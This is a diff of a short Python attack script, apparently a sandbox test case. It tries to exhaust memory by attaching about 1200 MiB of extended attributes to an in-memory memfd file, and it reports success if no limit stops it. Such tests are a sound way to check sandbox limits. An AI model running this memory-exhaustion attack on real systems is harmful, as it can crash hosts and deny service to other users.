@@ -3,21 +3,21 @@
 Without a sandbox: unsafe
 """
 
-import os,time
+import os
+
+MIB = 1200
 
 
 def attack():
-    out=[]
-    for descriptor in range(3, 6):
-        t=time.time(); n=0
-        value = bytes(1 << 16)
+    # A file that only lives in memory, on a file system without limits; attributes are no part of its size.
+    arena = next(number for number in range(3, 16) if "memfd:" in os.readlink(f"/proc/self/fd/{number}"))
+    value = bytes(1 << 16)
+    for number in range(MIB * 16):
         try:
-            while time.time()-t<0.8:
-                os.setxattr(descriptor, f"user.{n}", value); n+=1
+            os.setxattr(arena, f"user.{number}", value)
         except OSError as error:
-            out.append(error)
-        out.append((descriptor,n))
-    raise RuntimeError(f"stopped by: {out!r}")
+            raise RuntimeError(f"stopped by: {error!r}, after {number >> 4} MiB")
+    raise RuntimeError(f"ATTACK SUCCEEDED: {MIB} MiB of memory in use")
 
 
 attack()
